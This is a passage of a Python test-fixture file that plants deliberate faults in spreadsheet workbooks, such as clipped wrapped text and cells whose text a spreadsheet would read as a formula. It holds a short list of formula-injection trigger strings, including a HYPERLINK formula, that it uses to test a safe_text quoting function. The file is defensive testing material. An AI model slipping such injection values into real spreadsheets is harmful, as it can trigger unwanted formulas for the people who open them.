    sheet["D5"].alignment = Alignment(wrap_text=True)


inject("text-cut", "Inputs!A7", lambda book: put(book["Inputs"], "A7", LONG_LABEL))
inject("text-cut", "Inputs!A8", lambda book: put(book["Inputs"], "A8", LONG_CHINESE))


@fault("text-cut", "Cover!A12")
def _in_a_low_row(book: Workbook) -> None:
    put(book["Cover"], "A12", "A note of several lines that is wrapped in a row with room for one only, and so is cut.")
    book["Cover"]["A12"].alignment = Alignment(wrap_text=True)
    book["Cover"].row_dimensions[12].height = 13


QUOTED = ("styles.xml", ' quotePrefix="1"', "")


def dangerous(text: str) -> Callable[[Workbook], object]:
    def make(book: Workbook) -> None:
        from xlipo.sheetkit.cells import safe_text

        put(book["Cover"], "A12", safe_text(text))

    return make


for text in ('=HYPERLINK("http://x")', "+1 212 555", "-profit", "@SUM(A1)", "\tx"):
    inject("text-like-formula", "Cover!A12", dangerous(text), QUOTED)


def by_rule() -> dict[str, list[Fault]]:
    """The faults of each rule."""
    found: dict[str, list[Fault]] = {}
    for each in FAULTS:
        found.setdefault(each.rule, []).append(each)
    return found


def named() -> Iterator[tuple[str, Fault]]:
    """Every fault with a name for the test's report."""
    for rule, faults in by_rule().items():
        for number, each in enumerate(faults, 1):
            yield f"{rule}-{number}", each
